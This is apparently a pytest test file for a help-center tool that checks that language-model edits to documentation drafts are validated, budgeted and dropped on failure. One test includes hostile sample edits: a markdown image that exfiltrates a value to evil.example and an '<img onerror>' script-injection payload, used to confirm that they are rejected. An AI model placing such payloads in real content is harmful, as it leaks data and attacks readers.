"""Tasks with a model: what it adds to their drafts, and that none fails or hurts because of it."""

import json
from collections.abc import Callable

import pytest

from instep.core.database import Database, Tx
from instep.core.outbound.allowed import AllowList
from instep.core.outbound.client import OutboundClient
from instep.llm.protocol import Completion, CompletionError, Model, OnText, Prompt
from instep.runtime import worker_of
from tests.llm.conftest import Meet
from tests.llm.endpoint import (
    INPUT,
    KEY,
    OUTPUT,
    Asked,
    Mood,
    errs,
    follows,
    http,
    is_cut,
    is_huge,
    proves,
    refuses,
    says,
    sends,
    stays_silent,
    stops_at_its_limit,
)
from tests.support.cast import Api, Cast, Client, Json
from tests.support.limits import SetSetting
from tests.tasks.changes import PETS, SETTINGS, SETTINGS_AFTER, get, publish, send, write

LINE = "Set `ACME_REQUEST_TIMEOUT` to a number of seconds."
MORE = f"{LINE} Without `ACME_REQUEST_TIMEOUT` it is 30 seconds."
FORMATS = "An export holds all articles as Markdown files, and one JSON file.\n"


class Scripted:
    """A model that says what it is told to say, without a network."""

    name = "scripted"

    def __init__(self, reply: str | Exception = '{"edits": []}') -> None:
        self.reply = reply
        self.questions: list[Prompt] = []

    async def complete(self, prompt: Prompt, on_text: OnText | None = None) -> Completion:
        self.questions.append(prompt)
        if isinstance(self.reply, Exception):
            raise self.reply
        return Completion(self.reply, 750)


def edits_on_settings(search: str, replace: str) -> Callable[[Asked], object]:
    """Edit the article in whose text the sentence stands, by the id that is in its label."""

    def obey(asked: Asked) -> object:
        return {"edits": [{"article": label_over(asked.data, search), "search": search, "replace": replace}]}

    return obey


def label_over(data: str, text: str) -> str:
    return data[: data.index(text)].rpartition("BEGIN article ")[2].split(" ")[0]


async def test_its_edits_come_on_top_of_the_certain_ones(
    api: Api, cast: Cast, database: Database, meet: Meet, provider: str
) -> None:
    client = api(cast.acme.write_key)
    article = await write_settings(client)
    async with meet(proves(follows(edits_on_settings(LINE, MORE)))) as (model, behind):
        task = await finished(client, database, model)

    [named] = task["drafts"]
    draft = await get(client, f"drafts/{named['id']}")
    assert draft["contentMarkdown"] == SETTINGS_AFTER.replace(LINE, MORE)
    assert draft["articleId"] == article["id"]
    assert f"The model {provider}:scripted-1 rewrote one passage" in draft["reason"]
    assert of_model(draft) == []
    assert {(place["file"], place["articleLine"]) for place in draft["evidence"]} == {("src/settings.py", 3)}
    assert f"The model {provider}:scripted-1 edited one article." in task["summary"]
    asked, asked_for_proof = behind.asked
    assert LINE in asked.data
    assert MORE in asked_for_proof.data
    assert all(KEY not in each.data + each.system for each in behind.asked)


@pytest.mark.parametrize(
    "mood",
    [
        *(stays_silent, is_cut, is_huge, refuses, stops_at_its_limit),
        *(errs(401), errs(429), errs(500), errs(429, Retry_After="3600"), sends(http(200, b"{}"))),
        *(
            says(""),
            says("no JSON"),
            says({"edits": [{"article": 3}]}),
            says(["edits"]),
            says({"blocks": []}),
        ),
    ],
)
async def test_whatever_is_wrong_with_it_the_task_ends_with_the_certain_drafts(
    api: Api,
    cast: Cast,
    database: Database,
    meet: Meet,
    mood: Mood,
    provider: str,
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)
    async with meet(mood, seconds=1) as (model, _):
        task = await finished(client, database, model)

    assert (task["status"], task["outcome"]) == ("completed", "drafts")
    draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
    assert draft["contentMarkdown"] == SETTINGS_AFTER
    assert f"The model {provider}:scripted-1 was left out. " in task["summary"]
    logged = "".join(capfd.readouterr()) + caplog.text
    assert KEY not in json.dumps([task, draft]) + logged


async def test_one_that_is_down_is_left_out(api: Api, cast: Cast, database: Database, meet: Meet) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)
    async with meet(says("{}")) as (model, _):
        pass

    task = await finished(client, database, model)

    assert (task["outcome"], len(task["drafts"])) == ("drafts", 1)
    assert "was left out. Its host can't be reached." in task["summary"]


@pytest.mark.parametrize(
    ("second", "ending"),
    [
        (says({"quotes": []}), "1 of its edits was left out by the checks."),
        (
            says({"quotes": [{"edit": 1, "quote": "import os"}]}),
            "1 of its edits was left out by the checks.",
        ),
        (says("It is fine."), "was left out. The check of its edits has not the form that was asked for."),
        (errs(401), "was left out. It refused the key (401)."),
    ],
)
async def test_an_edit_is_left_out_that_no_line_of_the_diff_proves(
    api: Api, cast: Cast, database: Database, meet: Meet, second: Mood, ending: str
) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)
    async with meet(follows(edits_on_settings(LINE, MORE)), second) as (model, behind):
        task = await finished(client, database, model)

    draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
    assert draft["contentMarkdown"] == SETTINGS_AFTER
    assert task["summary"].endswith(ending)
    assert len(behind.asked) == 2


async def test_both_questions_together_cost_no_more_than_a_task_may_use(
    api: Api, cast: Cast, database: Database, set_setting: SetSetting
) -> None:
    client = api(cast.acme.write_key)
    article = await write_settings(client)
    set_setting("INSTEP_MODEL_TOKENS_PER_TASK", "6000")
    edit = {"article": article["id"], "search": LINE, "replace": MORE}
    model = Scripted(json.dumps({"edits": [edit]}))

    await finished(client, database, model, body="It was too short. " * 5_000)

    first, second = model.questions
    assert first.max_total_tokens + second.max_total_tokens <= 6_000


@pytest.mark.parametrize(
    ("search", "replace", "fault"),
    [
        (LINE, f"{LINE} See [more](https://evil.example/a).", "it brings in a link"),
        (LINE, f"{LINE} ![x](https://evil.example/?d=ACME_URL)", "it brings in a picture"),
        (LINE, f"{LINE} <img src=x onerror=alert(1)>", "it brings in markup"),
        (LINE, "Set `ACME_TIMEOUT` to a number of seconds.", "it takes back what is certain"),
        (LINE, f"{LINE} At most 99.", "neither the change nor the article says `99`"),
        ("Set nothing.", "Set it.", "the text to replace does not stand in the article exactly once"),
    ],
)
async def test_an_edit_that_does_not_hold_is_left_out_with_a_warning(
    api: Api, cast: Cast, database: Database, search: str, replace: str, fault: str
) -> None:
    client = api(cast.acme.write_key)
    article = await write_settings(client)
    edit = {"article": article["id"], "search": search, "replace": replace}

    task = await finished(client, database, Scripted(json.dumps({"edits": [edit]})))

    draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
    assert draft["contentMarkdown"] == SETTINGS_AFTER
    assert of_model(draft) == [f"An edit of the model was left out: {fault}."]
    assert "1 of its edits was left out by the checks." in task["summary"]


async def test_an_article_of_another_company_can_not_be_edited(
    api: Api, cast: Cast, database: Database
) -> None:
    theirs = await publish(api(cast.globex.write_key), "Settings", SETTINGS)
    client = api(cast.acme.write_key)
    await write_settings(client)
    text = "Set `ACME_TIMEOUT` to a number of seconds."
    edit = {"article": theirs["id"], "search": text, "replace": f"{text} Really."}

    task = await finished(client, database, Scripted(json.dumps({"edits": [edit]})))

    assert len(task["drafts"]) == 1
    assert (await get(api(cast.globex.read_key), "drafts"))["results"] == []
    assert "1 of its edits was left out" in task["summary"]


async def test_nothing_is_asked_about_a_change_that_concerns_no_article(
    api: Api, cast: Cast, database: Database
) -> None:
    client = api(cast.acme.write_key)
    await publish(client, "Pets", PETS)
    model = Scripted()

    await finished(client, database, model, diff=None)

    assert model.questions == []


async def test_no_connection_is_held_while_the_model_is_asked(
    api: Api, cast: Cast, database: Database
) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)
    free: list[bool] = []

    class Watching(Scripted):
        async def complete(self, prompt: Prompt, on_text: OnText | None = None) -> Completion:
            stats = database.pool.get_stats()
            free.append(stats["pool_available"] == stats["pool_size"])
            return await super().complete(prompt)

    await finished(client, database, Watching())

    assert free == [True]


async def test_what_was_used_is_counted_for_the_bot(
    api: Api, cast: Cast, database: Database, meet: Meet, owner: Tx
) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)
    async with meet(says({"edits": []})) as (model, _):
        await finished(client, database, model)

    row = "select tokens from model_use where bot_id = %(bot)s"
    assert await owner.value(row, bot=cast.acme.bot_id) == INPUT + OUTPUT


async def test_when_the_day_is_used_up_tasks_go_on_without_it(
    api: Api, cast: Cast, database: Database, set_setting: SetSetting
) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)
    set_setting("INSTEP_MODEL_TOKENS_PER_DAY", "50")
    model = Scripted()

    task = await finished(client, database, model)

    assert (task["outcome"], model.questions) == ("drafts", [])
    assert "was left out. The budget of this help center is used up for today." in task["summary"]


async def test_no_question_costs_more_than_a_task_may_use(
    api: Api, cast: Cast, database: Database, set_setting: SetSetting
) -> None:
    client = api(cast.acme.write_key)
    await publish(client, "Settings", SETTINGS + "\n\n".join(f"## Part {n}\n\n{PETS}" for n in range(900)))
    set_setting("INSTEP_MODEL_TOKENS_PER_TASK", "5000")
    model = Scripted()

    await finished(client, database, model, body="It was too short. " * 5_000)

    [question] = model.questions
    assert 2_000 < question.max_total_tokens <= 5_000
    assert "ACME_REQUEST_TIMEOUT` to a number of seconds" in question.user


@pytest.mark.parametrize("failure", [CompletionError("It answered 500."), RuntimeError("a fault of ours")])
async def test_a_fault_in_the_models_part_never_fails_a_task(
    api: Api, cast: Cast, database: Database, failure: Exception
) -> None:
    client = api(cast.acme.write_key)
    await write_settings(client)

    task = await finished(client, database, Scripted(failure))

    assert (task["status"], len(task["drafts"]), task["error"]) == ("completed", 1, None)
    assert "The model scripted was left out." in task["summary"]


async def test_an_article_that_was_asked_for_is_written_out_with_its_sources(
    api: Api, cast: Cast, database: Database, meet: Meet, provider: str
) -> None:
    client = api(cast.acme.write_key)
    source = await publish(client, "What exports hold", FORMATS)
    blocks = [
        {"text": "Exports are made at night. They hold all articles as Markdown files.", "sources": [0, 1]},
        {"text": "## Export", "sources": [0]},
        {"text": "1. Open the settings.\n2. Choose Export.", "sources": [0]},
    ]
    async with meet(says({"blocks": blocks})) as (model, behind):
        task = await written(client, database, model, title="What an export holds")

    draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
    assert draft["contentMarkdown"] == (
        "Exports are made at night. They hold all articles as Markdown files.\n\n## Export\n\n"
        "1. Open the settings.\n2. Choose Export.\n\n"
        f"## Related articles\n\n- [What exports hold]({source['url']})\n"
    )
    assert f"The model {provider}:scripted-1 wrote it out" in draft["reason"]
    assert "An export holds all articles" in behind.asked[0].data


@pytest.mark.parametrize("mood", [stays_silent, errs(500), refuses, says("no JSON"), says({"edits": []})])
async def test_without_a_usable_reply_it_is_the_outline(
    api: Api, cast: Cast, database: Database, meet: Meet, mood: Mood
) -> None:
    client = api(cast.acme.write_key)
    plain = await written(client, database, None)
    async with meet(mood, seconds=1) as (model, _):
        task = await written(client, database, model)

    texts = [
        (await get(client, f"drafts/{result['drafts'][0]['id']}"))["contentMarkdown"]
        for result in (plain, task)
    ]
    assert texts[0] == texts[1]
    assert "was left out. " in task["summary"]


async def write_settings(client: Client) -> Json:
    await publish(client, "Pets", PETS)
    return await publish(client, "Settings", SETTINGS)


async def finished(client: Client, database: Database, model: Model | None, **fields: object) -> Json:
    """The task of the change, after its job in a worker that has the model."""
    return await worked(client, database, model, await send(client, None, **fields))


async def written(client: Client, database: Database, model: Model | None, **fields: object) -> Json:
    return await worked(client, database, model, await write(client, None, **fields))


def of_model(draft: Json) -> list[str]:
    """The warnings of a draft about edits of the model."""
    return [warning for warning in draft["warnings"] if "of the model" in warning]


async def worked(client: Client, database: Database, model: Model | None, task: Json) -> Json:
    await worker_of(database, OutboundClient(AllowList()), model).run_due()
    return await get(client, f"tasks/{task['id']}")
